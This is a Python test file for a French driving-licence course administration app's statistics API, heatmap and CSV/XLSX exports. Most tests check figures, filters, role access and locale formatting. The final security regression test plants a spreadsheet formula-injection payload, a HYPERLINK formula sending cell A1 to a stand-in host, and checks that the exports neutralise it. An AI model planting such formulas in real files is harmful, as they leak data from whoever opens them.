"""The statistics (issue 18, item 3): GET /api/v1/statistics on a known data set, its filters,
bad filters refused in French (422), access by role; the heatmap of a process version; the
statistics page, its CSV and XLSX exports and its refusals."""

from __future__ import annotations

import io

import pytest

from tests.helpers import CENTRE, OTHER_CENTRE, d
from tests.ui_support import UiClient

PERIOD = {"from": "2026-01", "to": "2026-06"}


@pytest.fixture
def known(api):
    """Two mandatory cases whose letters were sent in January 2026 at CENTRE's session:
    A takes a course in March (in time), credited ten days after the attestation's receipt;
    B's deadline passes in May (referral candidate), the clerk does not refer it."""
    api.set_today("12/01/2026")
    cases = {}
    for name, number in (("A", "120175200001"), ("B", "120175200002")):
        api.licence(number)
        inf = api.infraction(number, "01/12/2025")
        cases[name] = api.mandatory_case(number, inf["id"], "10/01/2026", sent="07/01/2026")
    session = api.session("05/03/2026", "06/03/2026")  # with 5 voluntary trainees
    api.enroll(cases["A"]["id"], session["id"])
    api.set_today("06/03/2026")
    api.attendance(session["id"], [("120175200001", "present", "present")])
    api.set_today("10/03/2026")
    api.attestation(cases["A"]["id"], "10/03/2026")
    api.set_today("20/03/2026")
    api.complete(cases["A"]["id"], "verification_attestation", decision="valider")
    api.set_today("11/05/2026")
    api.run_timers()
    return {k: api.case(c["id"]) for k, c in cases.items()}


def stats(api, as_="agent", **query):
    return api.get("/api/v1/statistics", as_=as_, **query)


def test_figures_of_a_known_data_set(api, known):
    a = known["A"]
    assert a["outcome"]["obligation"] == "met" and a["outcome"]["points_credited"] > 0
    assert known["B"]["outcome"]["referral"] == "candidate"
    # the heatmap, while B waits for the referral decision
    heat = api.ok(api.get("/api/v1/processes/stage_obligatoire/versions/1/heatmap", as_="agent"))
    steps = {s["element"]: s for s in heat["steps"]}
    assert steps["signalement_parquet"]["waiting"] == 1
    assert steps["signalement_parquet"]["median_days"] == 0.0
    api.complete(known["B"]["id"], "signalement_parquet", decision="ne_pas_signaler",
                 motif="Premier manquement")

    body = api.ok(stats(api, **PERIOD))
    assert body["months"] == ["2026-01", "2026-02", "2026-03", "2026-04", "2026-05", "2026-06"]
    assert (body["from"], body["to"], body["centre"]) == ("2026-01", "2026-06", None)
    assert body["letters_48n"] == [2, 0, 0, 0, 0, 0]
    assert body["cases_opened"] == {"mandatory": [2, 0, 0, 0, 0, 0],
                                    "voluntary": [5, 0, 0, 0, 0, 0]}
    assert body["courses"] == {"in_time": [0, 0, 1, 0, 0, 0], "late": [0] * 6,
                               "no_deadline": [0, 0, 5, 0, 0, 0]}
    assert body["obligations"]["met"] == [1, 0, 0, 0, 0, 0]
    assert body["obligations"]["not_met"] == [1, 0, 0, 0, 0, 0]
    assert body["obligations"]["share_met_percent"] == [50.0, None, None, None, None, None]
    assert body["points"]["courses_credited"] == [0, 0, 1, 0, 0, 0]
    assert body["points"]["points"] == [0, 0, a["outcome"]["points_credited"], 0, 0, 0]
    refund = a["outcome"]["refund"]
    assert refund["eligible"] is True
    assert body["refunds"] == {"granted": [0, 0, 1, 0, 0, 0], "refused": [0] * 6,
                               "amount_eur": [0, 0, refund["amount"], 0, 0, 0]}
    assert body["referrals"] == {"candidates": [0, 0, 0, 0, 1, 0], "referred": [0] * 6,
                                 "not_referred": [0, 0, 0, 0, 1, 0]}
    delay = body["credit_delay"]
    assert delay["credited"] == [0, 0, 1, 0, 0, 0]
    assert delay["within_one_month"] == [0, 0, 1, 0, 0, 0]
    assert delay["beyond_one_month"] == [0] * 6
    assert delay["median_days"] == [None, None, 10, None, None, None]
    assert delay["p90_days"] == [None, None, 10, None, None, None]
    open_total = api.ok(api.get("/api/v1/tasks", as_="agent"))["total"]
    assert sum(body["open_tasks_by_age"]["totals"]) == open_total

    # the centre filter: the cases with a seat in one of that centre's sessions
    ours = api.ok(stats(api, centre=CENTRE, **PERIOD))
    assert ours["centre"] == CENTRE
    assert ours["letters_48n"] == [1, 0, 0, 0, 0, 0]
    assert ours["courses"]["in_time"] == [0, 0, 1, 0, 0, 0]
    assert ours["referrals"]["candidates"] == [0] * 6
    other = api.ok(stats(api, centre=OTHER_CENTRE, **PERIOD))
    assert other["letters_48n"] == [0] * 6 and other["courses"]["no_deadline"] == [0] * 6
    assert other["points"]["points"] == [0] * 6
    # a shorter period
    march = api.ok(stats(api, **{"from": "2026-03", "to": "2026-03"}))
    assert march["months"] == ["2026-03"] and march["credit_delay"]["median_days"] == [10]


def test_default_period_is_the_last_twelve_months(api):
    api.set_today("15/04/2026")
    body = api.ok(stats(api))
    assert body["months"][0] == "2025-05" and body["months"][-1] == "2026-04"
    assert len(body["months"]) == 12 and body["letters_48n"] == [0] * 12


@pytest.mark.parametrize("query, field", [
    ({"from": "2026-13"}, "from"),
    ({"to": "mars"}, "to"),
    ({"from": "2026-1"}, "from"),
    ({"from": "1999-12"}, "from"),
    ({"from": "2026-05", "to": "2026-04"}, "from"),
    ({"from": "2020-01", "to": "2026-04"}, "from"),
    ({"centre": "R0000000000"}, "centre"),
    ({"from": "2026-001-01"}, "from"),
    ({"mois": "2026-01"}, "mois"),
])
def test_bad_filters_are_a_french_422(api, query, field):
    resp = stats(api, **query)
    assert resp.status_code == 422, resp.get_json()
    body = resp.get_json()
    assert resp.content_type.startswith("application/problem+json")
    assert field in body["errors"]
    assert any(w in (body["detail"] + " ".join(body["errors"][field])).lower()
               for w in ("mois", "période", "centre", "invalide", "inconnu", "longueur"))


def test_access_by_role(api):
    assert stats(api, as_="agent").status_code == 200
    assert stats(api, as_="admin").status_code == 200
    for role in ("designer", "centre75"):
        resp = stats(api, as_=role)
        assert resp.status_code == 403 and "rôle" in resp.get_json()["detail"]
    assert stats(api, as_=None).status_code == 401
    heat = "/api/v1/processes/stage_obligatoire/versions/1/heatmap"
    assert api.get(heat, as_="designer").status_code == 200
    assert api.get(heat, as_="centre75").status_code == 403
    assert api.get("/api/v1/processes/stage_obligatoire/versions/99/heatmap",
                   as_="agent").status_code == 404


def test_openapi_documents_the_statistics(api):
    doc = api.ok(api.get("/api/v1/openapi.json"))
    assert "/api/v1/statistics" in doc["paths"]
    assert "/api/v1/processes/{key}/versions/{number}/heatmap" in doc["paths"]
    params = {p["name"] for p in doc["paths"]["/api/v1/statistics"]["get"]["parameters"]}
    assert {"from", "to", "centre"} <= params


def test_statistics_page_exports_and_refusals(app, api, known):
    ui = UiClient(app)
    ui.login("agent")
    page = ui.get("/ui/statistiques", de="2026-01", a="2026-06")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for chart in ("chart-letters", "chart-courses", "chart-obligations", "chart-points",
                  "chart-refunds", "chart-referrals", "chart-delay", "chart-tasks"):
        assert f'id="{chart}"' in html and f'id="{chart}-table"' in html
    assert "mars 2026" in html and "Statistiques" in html

    csv_resp = ui.get("/ui/statistiques/export.csv", de="2026-01", a="2026-06")
    assert csv_resp.status_code == 200 and csv_resp.mimetype == "text/csv"
    assert csv_resp.headers["Content-Type"] == "text/csv; charset=utf-8"  # once (a QA finding)
    text = csv_resp.get_data().decode("utf-8")
    assert text.startswith("\ufeffMois;")
    lines = text.splitlines()
    assert lines[3].startswith("2026-03;") and len(lines[0].split(";")) == len(lines[3].split(";"))
    assert "statistiques-2026-01-2026-06.csv" in csv_resp.headers["Content-Disposition"]

    openpyxl = pytest.importorskip("openpyxl")
    xlsx = ui.get("/ui/statistiques/export.xlsx", de="2026-01", a="2026-06")
    assert xlsx.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx.get_data()))
    sheet = book["Chiffres mensuels"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Mois" and rows[3][0] == "2026-03" and rows[1][1] == 2  # letters

    bad = ui.get("/ui/statistiques", de="2026-13")
    assert bad.status_code == 422 and "Mois invalide" in bad.get_data(as_text=True)
    assert ui.get("/ui/statistiques/export.csv", de="2026-13").status_code == 422
    assert ui.get("/ui/statistiques", centre="X" * 500).status_code == 422

    heat = ui.get("/ui/processus/stage_obligatoire/versions/1/carte-de-chaleur")
    assert heat.status_code == 200 and 'id="heat-table"' in heat.get_data(as_text=True)

    for user in ("centre75", "designer"):
        other = UiClient(app)
        other.login(user)
        assert other.get("/ui/statistiques").status_code == 403
    designer = UiClient(app)
    designer.login("designer")
    assert designer.get("/ui/processus/stage_obligatoire/versions/1/carte-de-chaleur"
                        ).status_code == 200


def test_dates_helper():
    assert d("10/01/2026") == "2026-01-10"


@pytest.mark.parametrize("utc, paris_day", [
    ("2026-01-31T23:30:00", "2026-02-01"),  # winter: UTC+1
    ("2026-03-29T00:30:00", "2026-03-29"),  # before the switch to summer time (01:00 UTC)
    ("2026-03-29T22:30:00", "2026-03-30"),  # summer: UTC+2
    ("2026-06-30T22:30:00", "2026-07-01"),
    ("2026-10-25T00:30:00", "2026-10-25"),  # 02:30 summer time, the last hour of it
    ("2026-10-25T22:30:00", "2026-10-25"),  # back to UTC+1: 23:30
])
def test_an_instant_counts_in_its_paris_day_and_month(app, utc, paris_day):
    import datetime as dt

    from sqlalchemy import literal, select

    from services import statistics
    from services.db import UTCDateTime, db

    with app.app_context():
        value = literal(dt.datetime.fromisoformat(utc).replace(tzinfo=dt.UTC), UTCDateTime())
        day, month = db.session.execute(select(statistics._paris_day(value),
                                               statistics._month_of_instant(value))).one()
        assert str(day) == paris_day and month == paris_day[:7]


def test_figures_count_a_command_at_once(app, api):
    """The counters are kept in the command's transaction: no cache, the next request sees it
    (before issue 18's counters, the figures were kept five minutes by each web process)."""
    api.set_today("12/01/2026")
    first = api.ok(stats(api, **PERIOD))
    api.licence("120175200003")
    inf = api.infraction("120175200003", "01/12/2025")
    api.mandatory_case("120175200003", inf["id"], "10/01/2026", sent="07/01/2026")
    fresh = api.ok(stats(api, **PERIOD))
    assert fresh["letters_48n"][0] == first["letters_48n"][0] + 1
    assert fresh["obligations"]["pending"][0] == first["obligations"]["pending"][0] + 1


def test_a_nul_in_a_filter_is_refused_not_a_500(app, api):
    assert stats(api, centre="R24\x00").status_code == 400
    ui = UiClient(app)
    ui.login("agent")
    assert ui.get("/ui/statistiques", centre="R24\x00").status_code == 400
    assert ui.get("/ui/statistiques", de="２０２６-01").status_code == 422  # ASCII digits only


def test_the_demo_data_fills_every_chart(app):
    from services import demo, statistics
    from web.ui.stats_pages import charts

    with app.app_context():
        demo.seed()
        figures = statistics.monthly()
        for chart in charts(figures):
            values = [v for s in chart["series"] for v in s["data"]]
            assert any(values), f"{chart['id']} is empty after `flask demo seed`"
        assert any(figures["credit_delay"]["median_days"])
        assert any(figures["refunds"]["amount_eur"])
        assert any(figures["referrals"]["referred"]) and any(figures["courses"]["late"])


@pytest.mark.parametrize("received, due", [
    ("2026-01-31", "2026-02-28"),  # D4: clamped to the month's end, not 30 days (2 March)
    ("2026-06-15", "2026-07-15"),
    ("2024-01-30", "2024-02-29"),
    ("2026-12-31", "2027-01-31"),
])
def test_one_month_after_the_receipt_in_sql(app, received, due):
    import datetime as dt

    from sqlalchemy import Date, literal, select

    from services import statistics
    from services.db import db
    from services.rules import dates

    with app.app_context():
        day = literal(dt.date.fromisoformat(received), Date())
        got = db.session.scalar(select(statistics._one_month_after(day)))
        assert str(got) == due == dates.credit_due_on(dt.date.fromisoformat(received)).isoformat()


def test_a_designers_task_shows_its_name_not_its_key(app, api):
    """Issue 14: « Tâches ouvertes par ancienneté » names a task a designer drew (here
    « Appeler le conducteur ») by its name, in the API, on the page and in the CSV export."""
    from tests.designer_support import xml_headers
    from tests.integration.test_designer_user_tasks import with_a_call_first

    api.set_today("02/03/2026")
    resp = api.request("POST", "/api/v1/processes/stage_volontaire/versions", as_="designer",
                       raw=with_a_call_first(), headers=xml_headers())
    assert resp.status_code == 201, resp.get_data(as_text=True)[:800]
    api.licence("120175200123", obtained="01/09/2015", probation="none", points=8)
    api.voluntary_case("120175200123")

    tasks = api.ok(stats(api))["open_tasks_by_age"]["tasks"]
    row = next(t for t in tasks if t["key"] == "appeler_conducteur")
    assert (row["title"], row["total"]) == ("Appeler le conducteur", 1)
    ui = UiClient(app)
    ui.login("agent")
    html = ui.get("/ui/statistiques").get_data(as_text=True)
    table = html[html.index('id="chart-tasks-table"'):]
    assert "Appeler le conducteur" in table and "appeler_conducteur" not in table
    csv_text = ui.get("/ui/statistiques/export.csv").get_data().decode("utf-8")
    assert "Appeler le conducteur" in csv_text


def test_statistics_page_writes_decimals_with_a_comma_the_exports_unchanged(app, api, known):
    """A QA finding: the page's tables showed « 0.0 »; French writes « 0,0 ». The JSON keeps
    its numbers, the CSV its documented French figures (« ; » and « , »)."""
    import re

    ui = UiClient(app)
    ui.login("agent")
    html = ui.get("/ui/statistiques", de="2026-01", a="2026-06").get_data(as_text=True)
    cells = re.findall(r"<td>([^<]*)</td>", html)
    assert not [c for c in cells if re.fullmatch(r"-?\d+\.\d+", c)]
    body = api.ok(api.get("/api/v1/statistics", **{"from": "2026-01", "to": "2026-06"}))
    floats = [v for v in body["obligations"]["share_met_percent"] if isinstance(v, float)]
    assert floats  # the period has a share to show
    assert all(str(v).replace(".", ",") in cells for v in floats)
    csv_text = ui.get("/ui/statistiques/export.csv", de="2026-01",
                      a="2026-06").get_data().decode("utf-8")
    assert all(f"{v:g}".replace(".", ",") in csv_text for v in floats)


def test_a_task_named_as_a_formula_stays_a_text_in_the_exports(app, api):
    """Security review: a designer's task name reached the statistics' CSV as it was and the
    XLSX as a formula (xlsxwriter turns a text starting with « = » into one): a clerk opening
    the export ran the designer's formula. Every other export already neutralised it."""
    import zipfile

    from tests.designer_support import xml_headers
    from tests.integration.test_designer_user_tasks import with_a_call_first

    formula = '=HYPERLINK("http://exemple.invalid/?"&A1,"Appeler")'
    xml = with_a_call_first().replace(
        b'name="Appeler le conducteur"',
        b'name="' + formula.replace("&", "&amp;").replace('"', "&quot;").encode() + b'"', 1)
    api.set_today("02/03/2026")
    resp = api.request("POST", "/api/v1/processes/stage_volontaire/versions", as_="designer",
                       raw=xml, headers=xml_headers())
    assert resp.status_code == 201, resp.get_data(as_text=True)[:800]
    api.licence("120175200123", obtained="01/09/2015", probation="none", points=8)
    api.voluntary_case("120175200123")
    ui = UiClient(app)
    ui.login("agent")
    csv_text = ui.get("/ui/statistiques/export.csv").get_data().decode("utf-8")
    import csv
    row = next(r for r in csv.reader(io.StringIO(csv_text), delimiter=";") if r and
               "HYPERLINK" in r[0])
    assert row[0] == "'" + formula
    xlsx = ui.get("/ui/statistiques/export.xlsx").get_data()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = "".join(book.read(n).decode() for n in book.namelist()
                         if n.startswith("xl/worksheets/"))
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheets and "HYPERLINK" not in sheets
    assert "=HYPERLINK(" in strings
